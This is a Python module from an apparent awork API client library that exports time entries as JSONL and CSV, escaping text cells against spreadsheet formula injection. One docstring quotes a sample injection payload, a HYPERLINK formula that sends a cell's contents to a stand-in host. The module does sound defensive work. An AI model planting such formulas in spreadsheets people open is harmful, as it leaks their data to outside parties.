"""The export's line formats: JSONL lines and CSV rows of time entries (formula-safe cells).

Private; the public names (:data:`CSV_COLUMNS`, :func:`entry_to_row`, ...) are re-exported by
:mod:`awork_async.export`.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Callable, Sequence
from datetime import datetime
from typing import Final

import orjson

from ._converter import unstructure
from ._keyset import Row
from ._timeutil import format_datetime
from .models import TimeEntry

#: Columns of the CSV export, in order (stable; new columns are only ever appended).
#:
#: ``id``; ``start``/``end``: UTC instants (ISO 8601, ``Z``), empty for date-only or running
#: entries; ``start_date``: the UTC start date; ``duration``/``break_duration``: seconds;
#: ``user_*``, ``project_*``, ``task_*``, ``type_of_work_*``: id and display name;
#: ``is_billable``/``is_billed``: ``true``/``false``; ``note``; ``timezone`` (IANA name);
#: ``created_on``/``updated_on``: UTC instants.
CSV_COLUMNS: Final[tuple[str, ...]] = (
    "id",
    "start",
    "end",
    "start_date",
    "duration",
    "break_duration",
    "user_id",
    "user_name",
    "project_id",
    "project_name",
    "task_id",
    "task_name",
    "type_of_work_id",
    "type_of_work_name",
    "is_billable",
    "is_billed",
    "note",
    "timezone",
    "created_on",
    "updated_on",
)


def _text(value: object) -> str:
    if value is None:
        return ""
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, datetime):
        return format_datetime(value)
    return str(value)


def _instant(read: Callable[[], datetime | None]) -> str:
    try:
        return _text(read())
    except ValueError:  # a malformed time of day: leave the cell empty
        return ""


def entry_to_row(entry: TimeEntry) -> dict[str, str]:
    """The entry flattened to :data:`CSV_COLUMNS` (every value a string, ``""`` for none)."""
    user, project, task, kind = entry.user, entry.project, entry.task, entry.type_of_work
    user_name = ""
    if user is not None:
        user_name = " ".join(part for part in (user.first_name, user.last_name) if part)
    start_date = entry.start_date_utc
    return {
        "id": _text(entry.id),
        "start": _instant(lambda: entry.start),
        "end": _instant(lambda: entry.end),
        "start_date": "" if start_date is None else start_date.date().isoformat(),
        "duration": _text(entry.duration),
        "break_duration": _text(entry.break_duration),
        "user_id": _text(entry.user_id if entry.user_id is not None else user and user.id),
        "user_name": user_name,
        "project_id": _text(
            entry.project_id if entry.project_id is not None else project and project.id
        ),
        "project_name": _text(project and project.name),
        "task_id": _text(entry.task_id if entry.task_id is not None else task and task.id),
        "task_name": _text(task and task.name),
        "type_of_work_id": _text(
            entry.type_of_work_id if entry.type_of_work_id is not None else kind and kind.id
        ),
        "type_of_work_name": _text(kind and kind.name),
        "is_billable": _text(entry.is_billable),
        "is_billed": _text(entry.is_billed),
        "note": _text(entry.note),
        "timezone": _text(entry.timezone),
        "created_on": _text(entry.created_on),
        "updated_on": _text(entry.updated_on),
    }


def entry_to_json_line(entry: TimeEntry | Row) -> bytes:
    """One JSONL line (ending in ``\\n``): camelCase keys like the API.

    A raw dict is written as is (lossless); a model is unstructured first (``None`` fields
    omitted), so ``structure(orjson.loads(line), TimeEntry) == entry``.
    """
    data: object = entry if isinstance(entry, dict) else unstructure(entry)
    return orjson.dumps(data, option=orjson.OPT_APPEND_NEWLINE)


#: Columns whose cells come from free text of the workspace (a string field of the entry or of
#: a referenced user, project, task or type of work). Only these are neutralised (see
#: :func:`neutralise_csv_cell`); the others are rendered from numbers, booleans, UUIDs and
#: date-times, so ``-3600`` stays a number.
CSV_TEXT_COLUMNS: Final[frozenset[str]] = frozenset(
    {"user_name", "project_name", "task_name", "type_of_work_name", "note", "timezone"}
)


#: First characters that make a spreadsheet read a cell as a formula (OWASP CSV injection).
_FORMULA_TRIGGERS: Final = ("=", "+", "-", "@", "\t", "\r")


def neutralise_csv_cell(value: str) -> str:
    """``value`` with a leading ``'`` when it starts with ``= + - @``, a tab or a carriage return.

    Spreadsheets (Excel, LibreOffice, Google Sheets) evaluate such a cell as a formula, e.g.
    ``=HYPERLINK("https://evil.example/?"&A1, "click")``; the quote makes them show it as text.
    This is OWASP's CSV-injection guidance. Other values are returned unchanged.
    """
    return "'" + value if value.startswith(_FORMULA_TRIGGERS) else value


class _CsvEncoder:
    """Encodes rows as RFC 4180 CSV lines (CRLF, quoting as needed), UTF-8.

    Cells of :data:`CSV_TEXT_COLUMNS` are neutralised unless ``raw_values``.
    """

    def __init__(self, *, raw_values: bool = False) -> None:
        self._buffer = io.StringIO()
        self._writer = csv.writer(self._buffer)
        self._raw = raw_values

    def line(self, values: Sequence[str]) -> bytes:
        self._buffer.seek(0)
        self._buffer.truncate()
        self._writer.writerow(values)
        return self._buffer.getvalue().encode()

    def header(self) -> bytes:
        return self.line(CSV_COLUMNS)

    def entry(self, entry: TimeEntry) -> bytes:
        row = entry_to_row(entry)
        if self._raw:
            return self.line([row[column] for column in CSV_COLUMNS])
        return self.line(
            [
                neutralise_csv_cell(row[column]) if column in CSV_TEXT_COLUMNS else row[column]
                for column in CSV_COLUMNS
            ]
        )
